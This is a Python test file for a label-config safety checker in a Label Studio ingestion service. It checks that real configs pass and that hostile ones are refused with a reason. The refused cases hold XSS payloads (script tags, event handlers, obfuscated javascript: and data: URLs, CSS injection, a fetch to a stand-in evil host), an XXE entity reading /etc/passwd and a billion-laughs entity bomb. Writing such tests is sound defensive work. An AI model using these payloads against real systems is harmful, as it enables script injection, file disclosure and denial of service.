"""Label configs from events: script-running markup and parser attacks are refused, real configs pass."""

from __future__ import annotations

from xml.sax.saxutils import quoteattr

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from labelstudio_ingest.consumer.configsafety import (
    UnsafeLabelConfigError,
    check_config_safety,
    config_problems,
)
from labelstudio_ingest.consumer.labelconfig import LabelConfigError, default_config
from tests.label_configs import CUSTOM_CONFIG

BODY = '<Text name="prompt" value="$prompt"/><TextArea name="response" toName="prompt"/>'


def _view(extra: str, *, attrs: str = "") -> str:
    return f"<View{attrs}>{BODY}{extra}</View>"


@pytest.mark.parametrize(
    "config",
    [
        pytest.param(default_config("prompt"), id="reference-prompt-with-style"),
        pytest.param(default_config("chat"), id="reference-chat"),
        pytest.param(CUSTOM_CONFIG, id="documented-custom"),
        pytest.param('<?xml version="1.0" encoding="utf-8"?>' + _view(""), id="xml-declaration"),
        pytest.param(_view('<Header value="Metadata: see the data: section"/>'), id="words-like-data-url"),
        pytest.param(
            _view("", attrs=' style="background: url(data:image/png;base64,AAAA)"'), id="image-data"
        ),
        pytest.param(_view('<HyperText name="help" value="&lt;b&gt;Rate&lt;/b&gt; it"/>'), id="hypertext-b"),
        pytest.param(_view("<!-- a comment -->"), id="comment"),
        pytest.param(_view('<View style="display: flex; color: #333"/>'), id="style-attribute"),
    ],
)
def test_real_configs_pass(config: str) -> None:
    check_config_safety(config)


@pytest.mark.parametrize(
    ("config", "named"),
    [
        (_view("<Script>alert(1)</Script>"), "<Script>"),
        (_view("<script>alert(1)</script>"), "<script>"),
        (_view('<iframe src="https://evil.example"/>'), "<iframe>"),
        (_view('<embed src="x.swf"/>'), "<embed>"),
        (_view('<svg><circle onload="alert(1)"/></svg>'), "<svg>"),
        (_view('<Header value="hi" onclick="alert(1)"/>'), "'onclick'"),
        (_view('<View ONMOUSEOVER="alert(1)"/>'), "'ONMOUSEOVER'"),
        (_view('<Header value="x" onerror="fetch(`//evil`)"/>'), "'onerror'"),
        (_view('<Image name="i" value="javascript:alert(1)"/>'), "'value'"),
        (_view('<Image name="i" value="  JaVa&#x09;ScRiPt:alert(1)"/>'), "'value'"),
        (_view('<Image name="i" value="java&#10;script:alert(1)"/>'), "'value'"),
        (_view('<Image name="i" value="data:text/html;base64,PHNjcmlwdD4="/>'), "'value'"),
        (_view('<Image name="i" value="data:image/svg+xml;base64,PHN2Zz4="/>'), "'value'"),
        (_view('<View srcdoc="&lt;script&gt;"/>'), "'srcdoc'"),
        (_view('<HyperText name="h" value="&lt;script&gt;alert(1)&lt;/script&gt;"/>'), "inline HTML"),
        (_view('<HyperText name="h" value="&lt;img src=x onerror=alert(1)&gt;"/>'), "inline HTML"),
        (_view('<HyperText name="h" value="&lt;a href=javascript:alert(1)&gt;x&lt;/a&gt;"/>'), "inline HTML"),
        (_view('<HyperText name="h"><p onclick="alert(1)">x</p></HyperText>'), "'onclick'"),
        (_view('<HyperText name="h" value="$prompt"/>'), "as HTML"),
        (_view("<Style>.x { background: url(javascript:alert(1)) }</Style>"), "<Style>"),
        (_view("<Style>@import url(https://evil.example/x.css);</Style>"), "<Style>"),
        (_view("<Style>.x { width: expression(alert(1)) }</Style>"), "<Style>"),
        (_view("<Style><![CDATA[</Style><script>alert(1)</script>]]></Style>"), "<Style>"),
        (_view('<View style="behavior: url(x.htc)"/>'), "'style'"),
        (_view("<?php echo 1; ?>"), "processing instruction"),
        (
            '<!DOCTYPE View [<!ENTITY e SYSTEM "file:///etc/passwd">]>' + _view('<Header value="&e;"/>'),
            "DTD",
        ),
        (
            '<!DOCTYPE v [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>'
            + _view('<Header value="&b;&b;"/>'),
            "DTD",
        ),
        ("<View><Text", "not well-formed"),
    ],
)
def test_hostile_configs_are_refused_with_the_reason(config: str, named: str) -> None:
    with pytest.raises(UnsafeLabelConfigError, match="the label config is refused") as caught:
        check_config_safety(config)
    assert named in str(caught.value)
    assert isinstance(caught.value, LabelConfigError)  # routed like every other unusable config


def test_many_problems_are_summarised() -> None:
    config = _view("".join(f'<Header value="x" onclick="a{i}"/>' for i in range(8)))
    assert len(config_problems(config)) == 8
    with pytest.raises(UnsafeLabelConfigError, match=r"and 3 more"):
        check_config_safety(config)


@settings(max_examples=200, deadline=None)
@given(st.text(max_size=300))
def test_any_text_is_answered_not_crashed(text: str) -> None:
    """Whatever arrives as a config, the check answers with a list of sentences."""
    problems = config_problems(text)
    assert all(isinstance(p, str) and p for p in problems)


@settings(max_examples=200, deadline=None)
@given(
    st.sampled_from(["onclick", "OnLoad", "onerror", "onfocus"]),
    st.text(st.characters(exclude_categories=("Cs", "Cc", "Cn")), max_size=40),  # characters XML allows
)
def test_every_handler_attribute_is_refused(name: str, value: str) -> None:
    config = _view(f"<View {name}={quoteattr(value)}/>")
    assert any(f"{name!r}" in p for p in config_problems(config))
